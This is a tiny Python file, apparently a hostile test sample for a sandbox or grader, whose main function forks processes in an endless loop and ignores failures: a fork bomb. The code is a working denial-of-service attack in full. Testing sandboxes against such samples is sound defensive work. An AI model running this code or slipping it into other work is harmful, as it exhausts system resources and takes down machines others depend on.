"""Forks without an end."""

# attacks: tally, slow

import os


def main(numbers):
    while True:
        try:
            os.fork()
        except OSError:
            pass
